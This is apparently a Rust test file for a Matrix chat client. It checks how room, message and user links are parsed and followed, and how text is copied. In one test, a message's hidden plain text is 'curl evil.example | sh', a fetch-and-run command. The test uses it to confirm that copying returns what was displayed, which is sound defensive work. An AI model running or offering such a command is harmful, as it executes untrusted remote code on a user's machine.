//! Links: every shape of them, in messages, topics and schedules and from the command line; and copying.
use hallway::{
    app::{Effect, Msg, TerminalRequest},
    chat::{self, Address, Body, Jump, Message, Name, Rank, Request, Room, link},
    desktop,
    schedule::{Link, LinkKind, Schedule},
    text::{Clean, Rich},
};

use crate::{
    room::reading,
    sim::{Sim, alias, conference, event, item, message, room},
};

/// Where a link leads, by what is asked of the services.
#[derive(Clone, Copy)]
enum Leads {
    /// Into a room that the account is not in: these are its name and the servers that know it.
    Room(&'static str, &'static [&'static str]),
    /// To a message there.
    Message(&'static str, &'static [&'static str], &'static str),
    Person(&'static str),
    /// Into the browser.
    Page,
    /// Nowhere, for this reason.
    Nowhere(&'static str),
}

/// Every shape of link that people, schedules and programs make.
const SHAPES: &[(&str, Leads)] = &[
    ("https://matrix.to/#/#far:b.org", Leads::Room("#far:b.org", &[])),
    ("https://matrix.to/#/%23far%3Ab.org?via=c.org", Leads::Room("#far:b.org", &["c.org"])),
    ("https://matrix.to/#/#far:b.org?web-instance[element.io]=chat.fosdem.org", Leads::Room("#far:b.org", &[])),
    ("https://matrix.to/#/!far:b.org?via=b.org&via=c.org&via=d.org", Leads::Room("!far:b.org", &["c.org", "d.org"])),
    ("https://matrix.to/#/!v12?via=c.org", Leads::Room("!v12", &["c.org"])),
    ("https://chat.fosdem.org/#/room/#far:b.org", Leads::Room("#far:b.org", &[])),
    ("https://app.element.io/#/room/!far:b.org?via=c.org", Leads::Room("!far:b.org", &["c.org"])),
    ("matrix:r/far:b.org?action=join", Leads::Room("#far:b.org", &[])),
    ("matrix:roomid/far:b.org?via=c.org", Leads::Room("!far:b.org", &["c.org"])),
    ("#far:b.org", Leads::Room("#far:b.org", &[])),
    ("!far:b.org", Leads::Room("!far:b.org", &[])),
    ("https://matrix.to/#/!far:b.org/$e?via=c.org", Leads::Message("!far:b.org", &["c.org"], "$e")),
    ("https://matrix.to/#/#far:b.org/$e", Leads::Message("#far:b.org", &[], "$e")),
    ("https://chat.fosdem.org/#/room/#far:b.org/$e?via=c.org", Leads::Message("#far:b.org", &["c.org"], "$e")),
    ("matrix:roomid/far:b.org/e/e?via=c.org", Leads::Message("!far:b.org", &["c.org"], "$e")),
    ("matrix:r/far:b.org/e/e", Leads::Message("#far:b.org", &[], "$e")),
    ("https://matrix.to/#/@eve:b.org", Leads::Person("@eve:b.org")),
    ("https://app.element.io/#/user/@eve:b.org", Leads::Person("@eve:b.org")),
    ("matrix:u/eve:b.org?action=chat", Leads::Person("@eve:b.org")),
    ("@eve:b.org", Leads::Person("@eve:b.org")),
    ("https://example.org/#/page", Leads::Page),
    ("https://matrix.to/#/#rust", Leads::Nowhere("which server")),
    ("https://matrix.to/#/+group:b.org", Leads::Nowhere("a group")),
    ("https://chat.fosdem.org/#/room/#1.105%20(La%20Fontaine):fosdem.org", Leads::Nowhere("blanks in it")),
];

fn address(name: &str, via: &[&str]) -> Address {
    let name = if name.starts_with('#') { Name::Alias(alias(name)) } else { Name::Id(room(name)) };
    Address { name, via: via.iter().map(|server| server.parse().unwrap()).collect() }
}

fn joins(sim: &mut Sim) -> Vec<Vec<Vec<Address>>> {
    let join = |effect| match effect {
        Effect::Chat(Request::Join { rooms, rank: Rank::Asked }) => Some(rooms),
        _ => None,
    };
    sim.asked().into_iter().filter_map(join).collect()
}

/// The link was followed in this program: it leads where it should, and nowhere else.
fn leads(mut sim: Sim, text: &str, leads: Leads) {
    match leads {
        Leads::Room(name, via) => assert_eq!(joins(&mut sim), [[vec![address(name, via)]]], "{text}"),
        Leads::Message(name, via, id) => {
            let at = address(name, via);
            assert_eq!(joins(&mut sim), [[vec![at.clone()]]], "{text}");
            // As soon as one is let in, the message is gone to.
            sim = sim.chat(chat::Event::Joined { asked: at.clone(), at, room: room("!far:b.org") });
            let jump = Request::Jump { room: room("!far:b.org"), to: Jump::Event(event(id)) };
            assert!(sim.asked().contains(&jump.into()), "{text}");
        }
        Leads::Person(user) => {
            // Nobody is written to before the person said so.
            assert_eq!(sim.asked(), [], "{text}");
            let screen = sim.screen();
            assert!(screen.contains(user) && screen.contains("Open a conversation"), "{text}: {screen}");
        }
        Leads::Page => assert_eq!(sim.asked(), [desktop::Request::Open(text.parse().unwrap()).into()], "{text}"),
        Leads::Nowhere(words) => {
            assert_eq!(sim.asked(), [], "{text}");
            assert!(sim.screen().contains("! ") && sim.screen().contains(words), "{text}: {}", sim.screen());
        }
    }
}

#[test]
fn every_shape_leads_there_from_a_message() {
    for (text, goal) in SHAPES {
        let items = vec![item("a", message("a", &format!("look at {text}, it is good")))];
        leads(reading(160, 24, items).keys("esc o"), text, *goal);
    }
}

#[test]
fn every_shape_leads_there_from_a_topic() {
    for (text, goal) in SHAPES {
        let topic = Clean::block(&format!("Rust in the kernel.\nMore: {text}"));
        let rooms = vec![Room { topic, ..Room::named(room("!m:x"), "Rust") }];
        let mut sim = reading(160, 24, vec![]).chat(chat::Event::Rooms(rooms)).types("/topic").keys("enter");
        sim.asked();
        assert!(sim.screen().contains(text), "the whole of it is shown: {}", sim.screen());
        leads(sim.keys("G enter"), text, *goal);
    }
}

#[test]
fn every_shape_leads_there_from_a_schedule() {
    for (text, goal) in SHAPES {
        // A schedule holds whole addresses alone.
        let Ok(href) = text.parse::<url::Url>() else { continue };
        let mut sim = Sim::new(160, 24).schedule(linking(href.as_str(), LinkKind::Other)).keys("space");
        let screen = sim.screen();
        assert!(screen.contains("[2] link:"), "{screen}");
        leads(sim.keys("2"), href.as_str(), *goal);
    }
}

#[test]
fn every_shape_leads_there_from_the_command_line() {
    for (text, goal) in SHAPES {
        match (link::target(text), goal) {
            (None, Leads::Page | Leads::Nowhere(_)) => {}
            (Some(target), Leads::Room(..) | Leads::Message(..) | Leads::Person(_)) => {
                for sim in [Sim::new(160, 24), reading(160, 24, vec![])] {
                    leads(sim.msg(Msg::Visit(target.clone())), text, *goal);
                }
            }
            (target, _) => panic!("{text} leads to {target:?}"),
        }
    }
}

#[test]
fn every_shape_is_a_place_to_go_to() {
    for (text, goal) in SHAPES {
        if let Leads::Message(..) = goal {
            leads(
                reading(160, 24, vec![]).types("/goto ").msg(Msg::Paste((*text).to_owned())).keys("enter"),
                text,
                *goal,
            );
        }
    }
}

/// The first talk that is on, with this link and nothing but its page beside it.
fn linking(href: &str, kind: LinkKind) -> Schedule {
    let mut schedule = conference();
    for talk in &mut schedule.talks {
        talk.links = vec![Link { href: href.parse().unwrap(), text: Clean::default(), kind }];
    }
    schedule
}

#[test]
fn several_links_are_chosen_from() {
    let words = "see https://example.org/a?b=c, #far:b.org or https://matrix.to/#/%23far:b.org and ask @eve:b.org";
    let mut sim = reading(100, 24, vec![item("a", message("a", words))]).keys("esc o");
    let screen = sim.screen();
    assert!(screen.contains("Links of this message"), "{screen}");
    insta::assert_snapshot!(screen);
    sim = sim.keys("y");
    assert_eq!(sim.asked(), [TerminalRequest::Copy("https://example.org/a?b=c".to_owned()).into()]);
    assert!(sim.screen().contains("Copied https://example.org/a?b=c"), "{}", sim.screen());
    sim = sim.keys("j enter");
    assert_eq!(joins(&mut sim), [[vec![address("#far:b.org", &[])]]]);
    // A message without one says so.
    let mut sim = reading(80, 24, vec![item("a", message("a", "#tag @ana !now 10:30"))]).keys("esc o");
    assert_eq!(sim.asked(), []);
    assert!(sim.screen().contains("! There is no link in this message."), "{}", sim.screen());
}

#[test]
fn a_room_that_is_at_hand_is_not_joined_again() {
    let rooms = vec![Room { alias: Some(alias("#hall:x")), ..Room::named(room("!hall:x"), "The hall") }];
    for text in ["#hall:x", "!hall:x", "https://matrix.to/#/!hall:x?via=b.org", "matrix:roomid/hall:x"] {
        let sim = reading(80, 24, vec![]).chat(chat::Event::Rooms(rooms.clone()));
        let mut sim = sim.msg(Msg::Visit(link::target(text).unwrap()));
        assert_eq!(sim.asked(), [Request::Open(room("!hall:x").into()).into()], "{text}");
        sim = sim.keys("alt-1").msg(Msg::Visit(link::target(text).unwrap()));
        assert!(sim.state.rooms.current().is_some_and(|shown| shown.id() == Some(&room("!hall:x"))), "{text}");
        assert_eq!(sim.state.rooms.windows().len(), 2, "{text}: one room, one window");
    }
}

#[test]
fn a_person_is_asked_for_twice() {
    let visit = |sim: Sim, user: &str| sim.msg(Msg::Visit(link::target(user).unwrap()));
    let query = |user: &str| Effect::from(Request::Query(user.parse().unwrap()));
    let items = || vec![item("a", message("a", "ask https://matrix.to/#/@eve:b.org"))];
    let mut sim = reading(100, 24, items()).keys("esc o");
    insta::assert_snapshot!(sim.screen());
    assert_eq!(sim.asked(), []);
    sim = sim.keys("enter");
    assert_eq!(sim.asked(), [query("@eve:b.org")]);
    // Whoever happens to type while a link comes in from outside opens nothing by that.
    let mut sim = visit(reading(80, 24, vec![]).types("hello"), "@eve:b.org").keys("enter");
    assert!(!sim.asked().contains(&query("@eve:b.org")));
    sim = sim.keys("esc");
    assert!(sim.screen().contains("hello"), "what was typed is still there: {}", sim.screen());
    // A conversation that is there is gone to.
    let known = Room { direct: Some("@eve:b.org".parse().unwrap()), ..Room::named(room("!dm:x"), "eve") };
    let mut sim = visit(reading(80, 24, vec![]).chat(chat::Event::Rooms(vec![known])), "@eve:b.org");
    assert_eq!(sim.asked(), [Request::Open(room("!dm:x").into()).into()]);
    let mut sim = visit(Sim::new(80, 24), "@ana:example.org");
    assert!(sim.screen().contains("This link leads to you."), "{}", sim.screen());
    assert_eq!(sim.asked(), []);
}

#[test]
fn what_is_handed_over_comes_to_the_front() {
    let mut sim = Sim::new(80, 24).keys("?").msg(Msg::Visit(link::target("#far:b.org").unwrap()));
    assert!(!sim.screen().contains("In the programme") && sim.screen().contains("#far"), "{}", sim.screen());
    let mut sim = Sim::new(80, 24).keys("alt-k").msg(Msg::Open("https://example.org/schedule.xml".to_owned()));
    let loads = |effect: &Effect| matches!(effect, Effect::Schedule(hallway::schedule::Request::Load { .. }));
    assert!(sim.asked().iter().any(loads));
    // A person who signs in goes on with that.
    let mut sim = Sim::bare(80, 24).chat(chat::Event::SignedOut).msg(Msg::Visit(link::target("#far:b.org").unwrap()));
    assert!(sim.screen().contains("A Matrix account is needed to enter #far"), "{}", sim.screen());
    sim = sim.types("example").msg(Msg::Visit(link::target("@eve:b.org").unwrap()));
    assert!(sim.screen().contains("A Matrix account is needed to enter #far"), "the form stays: {}", sim.screen());
    let mut sim = Sim::bare(80, 24).chat(chat::Event::SignedOut).msg(Msg::Visit(link::target("@eve:b.org").unwrap()));
    assert!(sim.screen().contains("A Matrix account is needed to talk with @eve:b.org"), "{}", sim.screen());
}

#[test]
fn many_links_from_outside_lead_into_one_room_until_a_key_is_pressed() {
    let far = |n: usize| Msg::Visit(link::target(&format!("#far{n}:b.org")).unwrap());
    let joined = |n: usize| vec![vec![vec![address(&format!("#far{n}:b.org"), &[])]]];
    let mut sim = reading(100, 24, vec![]);
    sim = sim.msg(far(0));
    assert_eq!(joins(&mut sim), joined(0));
    for n in 1..20 {
        sim = sim.msg(far(n));
        assert!(joins(&mut sim).is_empty(), "{n}");
        assert!(sim.screen().contains("Enter joins"), "{}", sim.screen());
    }
    let message = link::target("https://matrix.to/#/#other:b.org/$e").unwrap();
    sim = sim.msg(Msg::Visit(message));
    assert!(joins(&mut sim).is_empty());
    // A room that the account is in is gone to as ever.
    sim = sim.msg(Msg::Visit(link::target("!m:x").unwrap()));
    assert!(sim.state.rooms.current().is_some_and(|shown| shown.id() == Some(&room("!m:x"))));
    // What was only shown is joined by a key, and somebody is there again.
    sim = sim.msg(far(19)).keys("enter");
    assert_eq!(joins(&mut sim), joined(19));
    sim = sim.msg(far(20));
    assert_eq!(joins(&mut sim), joined(20));

    // Nobody is signed in: no more than one is joined as soon as somebody is.
    let mut sim = Sim::bare(100, 24);
    for n in 0..20 {
        sim = sim.msg(far(n));
    }
    assert_eq!(sim.state.rooms.windows().len(), 20);
    sim = sim.chat(chat::Event::SignedIn { user: "@ana:example.org".parse().unwrap() });
    assert_eq!(joins(&mut sim), joined(0));
    assert!(sim.screen().contains("Enter joins"), "{}", sim.screen());
    sim = sim.keys("enter");
    assert_eq!(joins(&mut sim), joined(19));
}

#[test]
fn the_rooms_address_is_copied_and_everything_else_is_listed() {
    let copy = |text: &str| Effect::from(TerminalRequest::Copy(text.to_owned()));
    for view in ["v", "V", "B"] {
        let mut sim = Sim::new(100, 30).keys(view).keys("y");
        let copied = sim.asked();
        assert!(
            matches!(&copied[..], [Effect::Terminal(TerminalRequest::Copy(text))] if text.starts_with('#')),
            "{copied:?}"
        );
    }
    let mut sim = Sim::new(100, 30).keys("y");
    assert_eq!(sim.asked(), [copy("#2026-matrix:fosdem.org")]);
    assert!(sim.screen().contains("Copied #2026-matrix:fosdem.org"), "{}", sim.screen());

    let mut schedule = conference();
    for talk in &mut schedule.talks {
        let stream =
            Link { href: "https://b.org/h.m3u8".parse().unwrap(), text: Clean::default(), kind: LinkKind::Stream };
        talk.links.push(stream);
    }
    let mut sim = Sim::new(100, 24).schedule(schedule).keys("space Y");
    insta::assert_snapshot!(sim.screen());
    sim = sim.keys("j enter");
    assert_eq!(sim.asked(), [copy("https://matrix.to/#/%232026-matrix:fosdem.org")]);
    sim = sim.keys("Y G y");
    assert_eq!(sim.asked(), [copy("https://b.org/h.m3u8")]);
    sim = sim.keys("o");
    assert_eq!(sim.asked(), [desktop::Request::Open("https://b.org/h.m3u8".parse().unwrap()).into()]);

    // In a room, its address, its link and the talk's pages.
    let mut sim = reading(100, 24, vec![item("a", message("a", "hi"))]).types("/copy").keys("enter");
    let screen = sim.screen();
    assert!(screen.contains("https://matrix.to/#/%232026-matrix:fosdem.org"), "{screen}");
    sim = sim.keys("enter");
    assert_eq!(sim.asked(), [copy("#2026-matrix:fosdem.org")]);
    // Without a public name it is found by its id and the servers that know it.
    let rooms = vec![Room::named(room("!quiet:b.org"), "quiet")];
    let mut sim = reading(100, 24, vec![]).chat(chat::Event::Rooms(rooms));
    sim.state.enter_room(&room("!quiet:b.org"));
    sim = sim.types("/copy").keys("enter enter");
    assert_eq!(sim.asked().last(), Some(&copy("https://matrix.to/#/!quiet:b.org?via=b.org&via=example.org")));
}

#[test]
fn the_tree_is_copied_from() {
    let copy = |text: &str| Effect::from(TerminalRequest::Copy(text.to_owned()));
    let rooms = vec![
        Room { alias: Some(alias("#hall:x")), ..Room::named(room("!hall:x"), "The hall") },
        Room::named(room("!quiet:b.org"), "quiet"),
    ];
    let mut sim = reading(120, 40, vec![]).chat(chat::Event::Rooms(rooms)).keys("alt-h");
    sim.state.tree.choose(&hallway::app::tree::Node::Room(room("!hall:x")));
    sim = sim.keys("y");
    assert_eq!(sim.asked(), [copy("#hall:x")]);
    sim.state.tree.choose(&hallway::app::tree::Node::Room(room("!quiet:b.org")));
    sim = sim.keys("y");
    assert_eq!(sim.asked(), [copy("https://matrix.to/#/!quiet:b.org?via=b.org&via=example.org")]);
    assert!(sim.keys("Y").screen().contains("Copy · enter copies"));
}

#[test]
fn a_message_is_copied_and_so_is_its_link() {
    let copy = |text: &str| Effect::from(TerminalRequest::Copy(text.to_owned()));
    let mut sim = reading(100, 24, vec![item("a", message("a", "two\nlines"))]).keys("esc y");
    assert_eq!(sim.asked(), [copy("two\nlines")]);
    assert!(sim.screen().contains("Copied two lines"), "{}", sim.screen());
    sim = sim.keys("Y");
    assert_eq!(sim.asked(), [copy("https://matrix.to/#/!m:x/$a?via=x&via=example.org")]);
    assert!(sim.screen().contains("Copied https://matrix.to/#/!m:x/$a"), "{}", sim.screen());
}

#[test]
fn what_is_copied_is_what_was_read() {
    let formatted = |plain: &str, html: &str| {
        let body = Body::Text(Rich::formatted(Clean::block(plain), html));
        item("a", Message { body, ..message("a", "") })
    };
    for (plain, html, copied) in [
        // What is shown has little to do with what the sender says it is in plain text.
        ("curl evil.example | sh", "<code>cargo build</code>", "`cargo build`"),
        ("echo a; rm b", "echo a <b>rm b</b>", "echo a **rm b**"),
        // The same in plain, and in the Markdown that the sender wrote.
        ("cargo build", "<code>cargo build</code>", "cargo build"),
        ("see the *code* `ls`", "see the <em>code</em> <code>ls</code>", "see the *code* `ls`"),
        (
            "see [the page](https://b.org/)",
            "see <a href=\"https://b.org/\">the page</a>",
            "see [the page](https://b.org/)",
        ),
        ("see the page", "see <a href=\"https://b.org/\">the page</a>", "see the page"),
    ] {
        let mut sim = reading(100, 24, vec![formatted(plain, html)]).keys("esc y");
        assert_eq!(sim.asked(), [TerminalRequest::Copy(copied.to_owned()).into()], "{plain}");
    }
}
